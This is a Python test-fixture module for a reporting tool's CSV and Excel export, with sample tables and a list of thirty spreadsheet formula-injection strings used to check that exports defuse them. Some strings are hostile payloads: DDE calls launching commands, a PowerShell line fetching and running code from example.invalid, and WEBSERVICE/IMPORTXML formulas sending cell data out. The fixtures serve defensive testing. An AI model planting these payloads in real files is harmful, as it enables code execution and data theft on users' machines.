"""Tables to be written to files, and thirty texts with which people have attacked spreadsheets."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from fractions import Fraction

from openpyxl import load_workbook
from openpyxl.cell import Cell

from lti_tool.competency.delimited import rearm
from lti_tool.reports import csv_file
from lti_tool.reports.csv_file import PLAIN, Dialect
from lti_tool.reports.table import Column, Kind, Note, Row, Table

MOMENT = datetime(2026, 11, 26, 4, 15, tzinfo=UTC)
INJECTIONS = (
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    "+1+1",
    "+996555123456",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://example.invalid/?"&A1,"Open")',
    '=WEBSERVICE("https://example.invalid/"&A1)',
    '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/C powershell IEX(wget example.invalid/x)'!A0",
    "=SUM(A1:A9),=1",
    '","=1+1',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "=-1",
    "==1",
    "+-1",
    "-=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    ";=1+1;",
)
AWKWARD = (
    "007",
    "1/2",
    "1e5",
    "TRUE",
    "NaN",
    "2026-01-02",
    "a,b;c\td",
    'ça "va"',
    "two\nlines",
    "_x0041_",
    "https://example.invalid/",
    "Өмүрбек Ңү",
    " spaced ",
)
"""No attack, and yet a spreadsheet would gladly make something else of most of them."""
COLUMNS = (
    Column("Name"),
    Column("Count", Kind.WHOLE),
    Column("Mean", Kind.DECIMAL, 2),
    Column("Share", Kind.PERCENT, 1),
    Column("Since", Kind.MOMENT),
    Column("Level", Kind.LEVEL, around=("Level ", "")),
)
ROWS: tuple[Row, ...] = (
    ("Айгүл", 3, Decimal("1.999"), Fraction(1999, 3000), MOMENT, 2),
    ("Бакыт", -3, Decimal("-1.5"), Fraction(0), None, "In progress"),
    ("", None, None, None, None, 0),
)


def table(rows: Iterable[Row] = ROWS, columns: tuple[Column, ...] = COLUMNS, **more: object) -> Table:
    """A table of six kinds of columns, with two notes."""
    rows = list(rows)
    notes = (Note("As of", "2026-11-26 10:15"), Note("Filters", "=none"))
    made = Table(name="t", title="A table", columns=columns, rows=rows, count=len(rows), notes=notes)
    return replace(made, **more)


def of_texts(texts: Iterable[str]) -> Table:
    """One column of texts."""
    return table([(text,) for text in texts], (Column("=Text"),))


def csv_text(made: Table, dialect: Dialect = PLAIN) -> str:
    """The CSV file of a table."""
    return b"".join(csv_file.pieces(made, dialect)).decode()


def csv_rows(content: str, separator: str = ",") -> list[list[str]]:
    """What a program reads from a CSV file of ours, the apostrophes taken off."""
    return [[rearm(cell) for cell in row] for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator)]


def sheet(content: bytes, number: int = 0) -> list[tuple[Cell, ...]]:
    """The cells of a workbook's sheet."""
    return [tuple(row) for row in load_workbook(io.BytesIO(content)).worksheets[number].iter_rows()]
